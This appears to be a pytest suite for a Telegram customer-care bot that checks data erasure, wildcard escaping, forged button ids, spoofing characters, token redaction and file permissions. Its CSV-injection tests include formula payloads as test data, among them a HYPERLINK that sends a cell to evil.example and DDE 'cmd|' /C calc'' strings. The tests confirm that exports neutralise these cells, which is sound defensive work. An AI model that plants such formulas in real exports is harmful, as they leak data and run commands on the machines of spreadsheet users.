"""Privacy and security (issue 12, items 9–17): what /forget erases, CSV cells,
where staff tools answer, search wildcards, forged button ids, spoofing
characters, UTF-16 lengths, secrets and settings."""

from __future__ import annotations

import csv
import http.server
import io
import json
import logging
import os
import stat
import subprocess
import sys
import threading
from datetime import date, timedelta
from pathlib import Path

import pytest
from pydantic import SecretStr
from sqlalchemy import select

from bot import csv_safe
from bot.app import App, create_app
from bot.cli import main
from bot.clock import ManualClock
from bot.config import Settings
from bot.fake_telegram import FakeTelegram, FakeUser
from bot.logs import install, redact
from bot.rules.text_units import utf16_cut, utf16_len, utf16_split
from bot.sandbox import run_sandbox
from jobs.runner import advance
from storage.models import Base, OutboxMessage
from storage.repositories import Repos
from tests.conftest import MANAGER_ID, STAFF_CHAT_ID, register
from tests.helpers import (
    add_customer,
    add_order,
    add_product,
    card,
    customer_row,
    enqueue,
    file_complaint,
    load_catalog,
    outbox_by_key,
    place_order,
)

# ----- 12. LIKE wildcards ------------------------------------------------------------------

async def test_customer_search_wildcards_match_only_themselves(app: App, world: FakeTelegram,
                                                               staff: FakeUser) -> None:
    await register(FakeUser(world, 100001, "Mei"), "Mei Lin")
    await register(FakeUser(world, 100002, "Wang"), "Wang Fang")
    for query in ("%", "_", "%%", "M_i"):
        await staff.send(f"/customer {query}")
        reply = world.last(STAFF_CHAT_ID)
        assert "Mei Lin" not in reply.text and "Wang Fang" not in reply.text and not reply.labels, query
    await register(FakeUser(world, 100003, "Pct"), "100% Rice_Fan")
    await staff.send("/customer % rice_")
    assert "100% Rice_Fan" in world.last(STAFF_CHAT_ID).text


# ----- 16 and 17. Settings accepted but wrong; files readable by their owner only -----------

SETTING_NAMES = {name.upper() for name in Settings.model_fields}

BAD_SETTINGS: dict[str, tuple[str, dict[str, str], str]] = {
    # case -> (the variable the line names, environment, a fragment of the line)
    "abc shares": ("ABC_B_SHARE", {"ABC_A_SHARE": "0.9", "ABC_B_SHARE": "0.2"}, "at most 1"),
    "staff chat is a user": ("STAFF_CHAT_ID", {"STAFF_CHAT_ID": "123456789"}, "not a group"),
    "api url without host": ("TELEGRAM_API_URL", {"TELEGRAM_API_URL": "http://"}, "no host"),
    "api url with only a port": ("TELEGRAM_API_URL", {"TELEGRAM_API_URL": "https://:8081/"}, "no host"),
}


@pytest.fixture
def bare_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    for name in list(os.environ):
        if name.upper() in SETTING_NAMES:
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("case", list(BAD_SETTINGS))
def test_wrong_settings_stop_with_one_line(case: str, bare_env: Path, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    variable, env, fragment = BAD_SETTINGS[case]
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{bare_env / 'db.sqlite3'}")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(SystemExit) as exit_info:
        main(["migrate"])
    out, err = capsys.readouterr()
    lines = err.strip().splitlines()
    assert exit_info.value.code == 2 and out == "" and len(lines) == 1, err
    assert lines[0].startswith(f"caredesk: bad configuration: {variable}: ") and fragment in lines[0], lines[0]
    assert not (bare_env / "db.sqlite3").exists()


def test_good_shares_and_a_group_id_are_accepted(bare_env: Path) -> None:
    settings = Settings(abc_a_share=0.8, abc_b_share=0.2, staff_chat_id=-1001234567890,
                        telegram_api_url="http://localhost:8081")
    assert settings.staff_chat_id == -1001234567890


@pytest.mark.parametrize("url", [
    "sqlite+aiosqlite:///{tmp}/a-file/db.sqlite3",  # the folder cannot be made: a file is in the way
    "sqlite+aiosqlite:///{tmp}/not-a-database",  # not an SQLite file
    "postgresql+asyncpg://nobody:hunter2@127.0.0.1:1/caredesk",  # nothing listens there
])
def test_an_unusable_database_stops_with_one_line_naming_it(url: str, bare_env: Path,
                                                            monkeypatch: pytest.MonkeyPatch,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    if url.startswith("postgresql"):
        pytest.importorskip("asyncpg")
    (bare_env / "a-file").write_text("in the way")
    (bare_env / "not-a-database").write_bytes(b"garbage " * 200)
    url = url.format(tmp=bare_env)
    monkeypatch.setenv("DATABASE_URL", url)
    with pytest.raises(SystemExit) as exit_info:
        main(["migrate"])
    out, err = capsys.readouterr()
    lines = err.strip().splitlines()
    assert exit_info.value.code == 2 and len(lines) == 1, err
    assert lines[0].startswith("caredesk: cannot use the database ")
    named = url.split("///")[-1] if url.startswith("sqlite") else "127.0.0.1:1/caredesk"
    assert named in lines[0] and "hunter2" not in lines[0] and "Traceback" not in err


def test_database_and_report_files_are_private(bare_env: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{bare_env / 'data' / 'caredesk.sqlite3'}")
    assert main(["migrate"]) == 0
    assert stat.S_IMODE((bare_env / "data").stat().st_mode) == 0o700
    assert stat.S_IMODE((bare_env / "data" / "caredesk.sqlite3").stat().st_mode) == 0o600
    assert main(["report", "abc", "--format", "csv", "--out", str(bare_env / "out" / "abc.csv")]) == 0
    assert stat.S_IMODE((bare_env / "out").stat().st_mode) == 0o700
    assert stat.S_IMODE((bare_env / "out" / "abc.csv").stat().st_mode) == 0o600
    assert main(["report", "report", "--out", "report.txt"]) == 0
    assert stat.S_IMODE((bare_env / "report.txt").stat().st_mode) == 0o600
    assert main(["catalog", "export", "catalog.csv"]) == 0
    assert stat.S_IMODE((bare_env / "catalog.csv").stat().st_mode) == 0o600


# ----- 16. The bot token never reaches a log line or a stored error ------------------------------

TOKEN = "1234567890:" + "AAHdqTcv" * 4 + "abc"  # shaped like a bot token, built here so none is committed


def test_redact_hides_the_token_and_token_shaped_strings() -> None:
    url = f"https://api.telegram.org/bot{TOKEN}/sendMessage"
    assert redact(f"302, url='{url}'") == "302, url='https://api.telegram.org/bot<redacted>/sendMessage'"
    assert redact("webhook secret s3cret-value here", "s3cret-value") == "webhook secret <redacted> here"
    assert redact("order 12:30, customer 100001: ok") == "order 12:30, customer 100001: ok"  # ordinary text stays


def test_log_lines_and_tracebacks_are_redacted(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [handler])
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
    install("a-webhook-secret-123")
    log = logging.getLogger("caredesk.test")
    log.warning("could not reach %s", f"https://api.telegram.org/bot{TOKEN}/getMe")
    try:
        raise RuntimeError(f"redirect loop at /bot{TOKEN}/getMe with a-webhook-secret-123")
    except RuntimeError:
        log.exception("start-up failed")
    written = stream.getvalue()
    assert "could not reach https://api.telegram.org/bot<redacted>/getMe" in written
    assert "RuntimeError: redirect loop at /bot<redacted>/getMe with <redacted>" in written
    assert TOKEN not in written and "a-webhook-secret-123" not in written
    err = io.StringIO()
    monkeypatch.setattr(sys, "stderr", err)
    try:
        raise ValueError(f"bad URL http:///bot{TOKEN}/getMe")
    except ValueError as exc:
        sys.excepthook(type(exc), exc, exc.__traceback__)
    assert "bot<redacted>" in err.getvalue() and TOKEN not in err.getvalue()


async def test_the_token_is_not_kept_in_outbox_errors(settings: Settings, clock: ManualClock,
                                                      world: FakeTelegram) -> None:
    app = create_app(settings.model_copy(update={"bot_token": SecretStr(TOKEN)}), clock=clock,
                     session=world.session())
    world.attach(app.dispatcher, app.bot)
    try:
        await enqueue(app, "svc:loop", 500_001, category="service")
        world.fail("redirect_loop", chat_id=500_001, times=100)
        await advance(app.jobs, timedelta(hours=3))
        row = (await outbox_by_key(app))["svc:loop"]
        assert row.status == "failed" and "Too many redirects" in (row.last_error or "")
        assert TOKEN not in (row.last_error or "") and "bot<redacted>/sendMessage" in (row.last_error or "")
    finally:
        await app.close()


# ----- 14. Bidi controls and invisible characters in names ------------------------------------

async def test_bidi_and_invisible_characters_are_stripped_from_names(app: App, world: FakeTelegram,
                                                                    staff: FakeUser) -> None:
    mei = FakeUser(world, 100001, "Mei")
    await register(mei, "Mei\u202e\u200bLin\u2066\ufeff 👨\u200d👩\u200d👧")
    async with app.db.session() as session:
        stored = await Repos(session).customers.by_telegram_id(100001)
        assert stored is not None and stored.name == "MeiLin 👨\u200d👩\u200d👧"  # the emoji family stays one
    zero = FakeUser(world, 100002, "Zero")
    await zero.send("/start")
    replies = await zero.send("\u200b\u200d\u2060")  # nothing visible: not a name, asked again
    assert "phone" not in replies[-1].text.lower() and "name" in replies[-1].text.lower()


async def test_staff_cards_do_not_show_hidden_characters_of_existing_names(app: App, world: FakeTelegram,
                                                                           staff: FakeUser) -> None:
    await add_customer(app, 100003, name="Bob\u202egpj.exe\u200b")  # stored before names were cleaned
    await staff.send("/customer bob")
    card_ = world.last(STAFF_CHAT_ID)
    assert "Bobgpj.exe" in card_.text
    assert not any(ch in card_.text for ch in "\u202e\u200b")


# ----- 13. Oversized ids in callback data ----------------------------------------------------------

HUGE = "99999999999999999999999"
CUSTOMER_DATA = [f"myo:again:{HUGE}", f"myo:cancel:{HUGE}", f"csat:rate:{HUGE}:5", f"csat:skip:1:{HUGE}",
                 f"care:skip:{HUGE}", f"care:rate:{HUGE}", f"rl:{HUGE}:1", f"rl:1:{HUGE}", f"prof:edit:name:{HUGE}",
                 f"prof:forget_yes::{HUGE}", "myo:again:2147483648", "myo:again:-1"]
STAFF_DATA = [f"cust:open:{HUGE}", f"cust:note:{HUGE}", f"desk:accepted:{HUGE}::", f"tk:take:{HUGE}:",
              f"tk:resolve:{HUGE}:", "cust:open:9223372036854775808", f"cv:complaint:{HUGE}:"]


@pytest.mark.parametrize("data", CUSTOMER_DATA + STAFF_DATA)
async def test_oversized_ids_in_buttons_are_expired_buttons(app: App, world: FakeTelegram, customer: FakeUser,
                                                            staff: FakeUser, data: str) -> None:
    await register(customer, "Mei")
    who = staff if data in STAFF_DATA else customer
    if who is staff:
        await staff.send("/tickets")
    await who.press_data(data)
    assert world.alerts[-1][1] == "This button has expired."


async def test_oversized_ids_inside_dialog_buttons_are_expired_buttons(app: App, world: FakeTelegram,
                                                                      customer: FakeUser) -> None:
    await register(customer, "Mei")
    await customer.send("/order")
    await customer.press(1)  # a category: the products are shown
    await customer.press_data(f"ordr:prod:product:{HUGE}")
    assert world.alerts[-1][1] == "This button has expired."
    await customer.press_data(f"ordr:page:product:{HUGE}")
    assert world.alerts[-1][1] == "This button has expired."
    await customer.send("/cancel")
    mei = (await customer_row(app, customer.id)).id
    await add_order(app, mei, None, app.clock.now() - timedelta(days=1), total=2550)
    await customer.send("/complaint")
    await customer.press("Delivery")  # then: which order?
    await customer.press_data(f"cmp:order:order:{HUGE}")
    assert world.alerts[-1][1] == "This button has expired."


# ----- 11. Staff tools answer only in the staff group and in private -----------------------------

OTHER_GROUP = -1009999999999


async def test_staff_tools_show_nothing_in_another_group(app: App, world: FakeTelegram, customer: FakeUser,
                                                         staff: FakeUser, manager: FakeUser) -> None:
    await register(customer, "Mei Lin", address="12 Rice Street")
    await file_complaint(customer, "The bag was torn at 12 Rice Street")
    world.group(OTHER_GROUP, "Neighbours")
    staff_there = staff.in_chat(OTHER_GROUP)
    for command in ("/customer Mei", "/ticket 1", "/tickets", "/note 1 calls after six", "/customer 138"):
        replies = await staff_there.send(command)
        assert [r.text for r in replies] == ["Staff tools show customers’ details, so I only answer them in the "
                                             "staff group or in a private chat with me."], command
    for data in ("cust:open:1", "tk:take:1:", "tk:resolve:1:", "desk:accepted:1::", "cv:complaint:1:"):
        await staff_there.press_data(data, world.sent(OTHER_GROUP)[-1])
        assert world.alerts[-1][1] == "This button has expired.", data
    await manager.in_chat(OTHER_GROUP).send("/report")
    shown = " ".join(m.text or "" for m in world.sent(OTHER_GROUP))
    for secret in ("Mei", "Rice Street", "138", "torn"):
        assert secret not in shown
    # In the staff group and in private they work as before.
    await staff.send("/customer Mei")
    assert "Mei Lin" in world.last(STAFF_CHAT_ID).text
    await staff.in_chat(staff.id).send("/ticket 1")
    assert any("torn" in (m.text or "") for m in world.sent(staff.id))


# ----- 10. CSV formula injection ---------------------------------------------------------------------

def test_csv_cells_that_look_like_formulas_are_neutralised_and_numbers_stay() -> None:
    buffer = io.StringIO()
    writer = csv_safe.writer(buffer, lineterminator="\r\n")
    writer.writerow([-2, 3.5, "-2", "-12.50", "=1+1", "+cmd", "@SUM(A1)", "-2+3", "\t=1", "\r=1", "Mei", None])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        "-2", "3.5", "-2", "-12.50", "'=1+1", "'+cmd", "'@SUM(A1)", "'-2+3", "'\t=1", "'\r=1", "Mei", ""]
    for cell in ("=1+1", "+cmd|calc", "\t=1", "\r=1", "-2+3", "plain", "'quoted"):
        buffer = io.StringIO()
        csv_safe.writer(buffer).writerow([cell])
        assert csv_safe.unneutralise(next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[0]) == cell


EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


async def test_export_neutralises_customer_names(app: App, manager: FakeUser) -> None:
    product = await add_product(app)
    for n, name in enumerate(EVIL_NAMES):
        customer_id = await add_customer(app, 400_000 + n, name=name)
        await add_order(app, customer_id, product, app.clock.now() - timedelta(days=3))
    [document] = await manager.send("/export abc")
    assert document.file is not None
    rows = list(csv.reader(io.StringIO(document.file.decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    # defusedcsv also writes the | of such a cell as \| (no DDE link either).
    assert names == {"'" + (name.replace("|", "\\|") if name[0] != "\t" else name) for name in EVIL_NAMES}
    assert all(row[2].isdigit() and row[3].isdigit() for row in rows[1:])  # numbers stay numbers
    assert product and customer_id


def test_report_and_catalog_csv_on_the_command_line_are_neutralised(bare_env: Path,
                                                                     capsys: pytest.CaptureFixture[str],
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{bare_env / 'db.sqlite3'}")
    (bare_env / "in.csv").write_text("sku,name_en,name_zh,category,unit,price\n"
                                     "X1,\"=HYPERLINK(\"\"http://evil\"\")\",米,rice,bag,1.00\n"
                                     "X2,-2+3,米,rice,bag,2.00\n", encoding="utf-8")
    assert main(["catalog", "import", "in.csv"]) == 0
    assert main(["catalog", "export", "out.csv"]) == 0
    rows = list(csv.DictReader(io.StringIO((bare_env / "out.csv").read_text(encoding="utf-8"))))
    assert {r["sku"]: r["name_en"] for r in rows if r["sku"] in ("X1", "X2")} == {
        "X1": "'=HYPERLINK(\"http://evil\")", "X2": "'-2+3"}
    assert {r["sku"]: r["price"] for r in rows if r["sku"] in ("X1", "X2")} == {"X1": "1.00", "X2": "2.00"}
    # Imported again, the export gives the same names back (the ' is taken off).
    assert main(["catalog", "import", "out.csv"]) == 0
    assert main(["catalog", "export", "again.csv"]) == 0
    assert (bare_env / "again.csv").read_text(encoding="utf-8") == (bare_env / "out.csv").read_text(encoding="utf-8")


# ----- 9. /forget leaves nothing behind ------------------------------------------------------------------

NAME, ADDRESS, BIRTHDAY = "Meixiu Qiao", "88 Lotus Lane", "1990-03-04"
TYPED = ("torn sack from Qiao", "call me after six pm", "driver Wu was rude", "fine in the end")


async def _scan(app: App, secrets: list[str], telegram_id: int) -> list[str]:
    """Every column of every table: texts containing a secret, integers equal to the Telegram id."""
    found = []
    needles = [*secrets, str(telegram_id)]
    async with app.db.session() as session:
        for table in Base.metadata.sorted_tables:
            for row in (await session.execute(select(table))).mappings():
                for column, value in row.items():
                    if isinstance(value, (dict, list)):
                        value = json.dumps(value, ensure_ascii=False)
                    if isinstance(value, str) and any(s in value for s in needles):
                        found.append(f"{table.name}.{column} = {value[:80]!r}")
                    elif ((isinstance(value, int) and not isinstance(value, bool) and value == telegram_id)
                          or (isinstance(value, date) and value.isoformat() == BIRTHDAY)):
                        found.append(f"{table.name}.{column} = {value}")
    return found


async def test_forget_leaves_nothing_behind(app: App, world: FakeTelegram, customer: FakeUser, staff: FakeUser,
                                            settings: Settings) -> None:
    await load_catalog(app)
    await register(customer, NAME, address=ADDRESS, birthday=BIRTHDAY)
    phone = customer.phone.lstrip("+")[2:]
    await place_order(customer)  # the card shows name, phone and address in the staff chat
    for button in ("Accept", "Delivered"):
        await staff.press(button, world.sent(STAFF_CHAT_ID)[0])
    await file_complaint(customer, TYPED[0], order="#1")
    await staff.send(f"Sorry {NAME}, a new sack comes today", reply_to=card(world).message_id)
    await customer.send(TYPED[1])
    await staff.press("Resolve", card(world))
    await staff.send(f"New sack left at {ADDRESS}")
    await advance(app.jobs, timedelta(minutes=5))
    await customer.press("2 ⭐", next(m for m in customer.inbox() if "is resolved" in (m.text or "")))
    await customer.send(TYPED[3])
    await advance(app.jobs, timedelta(days=4))  # the birthday greeting and the delivery survey go out (a day apart)
    assert any(NAME.split()[0] in (m.text or "") and "irthday" in (m.text or "") for m in customer.inbox())
    await customer.press("1 ⭐", next(m for m in reversed(customer.inbox()) if "How was order" in (m.text or "")))
    await customer.send(TYPED[2])
    await advance(app.jobs, timedelta(minutes=5))
    secrets = [NAME, "Meixiu", "Qiao", ADDRESS, phone, BIRTHDAY, *TYPED]
    assert await _scan(app, secrets, customer.id)  # all of it is there before

    await customer.send("/forget")
    await customer.press("Yes")
    await advance(app.jobs, timedelta(minutes=5))  # the staff chat's copies are edited through the outbox
    assert await _scan(app, secrets, customer.id) == []
    for message in world.sent(STAFF_CHAT_ID) + world.sent(MANAGER_ID):
        assert not any(s in (message.text or "") for s in secrets), message.text
    # The order's card keeps the order (not personal data) without the customer.
    order_card = world.sent(STAFF_CHAT_ID)[0]
    assert order_card.text.startswith("🧾 Order #1 · Delivered\nCustomer: (forgotten customer)\n")
    assert "Total:" in order_card.text and not order_card.labels
    # The file itself: nothing left in its bytes either (secure_delete zeroes what was overwritten).
    if app.db.dialect != "sqlite":
        return
    await app.close()
    path = Path(settings.database_url.split("///", 1)[1])
    raw = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
    left = [s for s in secrets if s.encode("utf-8") in raw]
    assert left == []


# ----- 15. Lengths in UTF-16 units, as Telegram counts ----------------------------------------------

def test_utf16_helpers() -> None:
    assert utf16_len("😀") == 2 and utf16_len("米") == 1 and utf16_len("a😀b") == 4
    assert utf16_cut("😀😀😀", 5) == "😀😀"  # never half an emoji
    pieces = utf16_split("😀" * 4000, 3500)
    assert all(utf16_len(p) <= 3500 for p in pieces) and "".join(pieces) == "😀" * 4000
    words = utf16_split("word " * 1000, 100)
    assert all(utf16_len(p) <= 100 and not p.startswith(" ") for p in words)


async def test_a_complaint_of_2100_emoji_is_refused_clearly_and_1700_go_through(app: App, world: FakeTelegram,
                                                                              customer: FakeUser) -> None:
    await register(customer, "Mei")
    await customer.send("/complaint")
    await customer.press("Delivery")
    replies = await customer.send("😀" * 2100)  # 2,100 characters, 4,200 as Telegram counts
    assert replies[0].text.startswith("That is 4200 characters (an emoji counts as two); the limit is 3500.")
    await customer.send("😀" * 1700)
    await customer.press("Submit")
    card_ = world.last(STAFF_CHAT_ID)
    assert "😀" * 1700 in card_.text and utf16_len(card_.text) <= 4096


async def test_a_4000_emoji_message_reaches_staff_in_pieces(app: App, world: FakeTelegram, customer: FakeUser,
                                                            staff: FakeUser) -> None:
    await register(customer, "Mei")
    await file_complaint(customer, "torn bag")
    before = len(world.sent(STAFF_CHAT_ID))
    replies = await customer.send("😀" * 4000)
    assert "passed" in replies[-1].text.lower() or "staff" in replies[-1].text.lower()
    relayed = world.sent(STAFF_CHAT_ID)[before:]
    assert "".join(m.text for m in relayed).count("😀") == 4000
    assert all(utf16_len(m.text) <= 4096 for m in relayed)
    await advance(app.jobs, timedelta(minutes=5))
    async with app.db.session() as session:
        statuses = (await session.execute(select(OutboxMessage.status))).scalars().all()
    assert "failed" not in statuses


async def test_the_sandbox_saves_mydata_readable_by_its_owner_only(settings: Settings) -> None:
    out = io.StringIO()
    code = await run_sandbox(settings, stdin=io.StringIO(
        "/start\nMei\n:contact\n:press Skip\n:press Skip\n:press Skip\n:press No\n:press Confirm\n/mydata\n"), out=out)
    assert code == 0, out.getvalue()
    [saved] = list(Path(settings.sandbox_files_dir).glob("*my-data*"))
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert stat.S_IMODE(Path(settings.sandbox_files_dir).stat().st_mode) == 0o700


def test_a_redirect_loop_at_start_does_not_print_the_token(tmp_path: Path) -> None:
    """``caredesk run`` against a Bot API URL that redirects forever: the error names the URL, not the token."""

    class Loop(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.send_response(302)
            self.send_header("Location", self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Loop)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        env = {k: v for k, v in os.environ.items() if k.upper() not in SETTING_NAMES}
        env.update(BOT_TOKEN=TOKEN, TELEGRAM_API_URL=f"http://127.0.0.1:{server.server_port}",
                   DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / 'db.sqlite3'}",
                   PYTHONPATH=str(Path(__file__).resolve().parent.parent))
        done = subprocess.run([sys.executable, "-m", "bot", "run"], cwd=tmp_path, env=env, capture_output=True,
                              text=True, timeout=120, stdin=subprocess.DEVNULL)
    finally:
        server.shutdown()
    output = done.stdout + done.stderr
    assert done.returncode != 0 and "redirect" in output.lower()
    assert TOKEN not in output and TOKEN.split(":")[1] not in output and "bot<redacted>/" in output
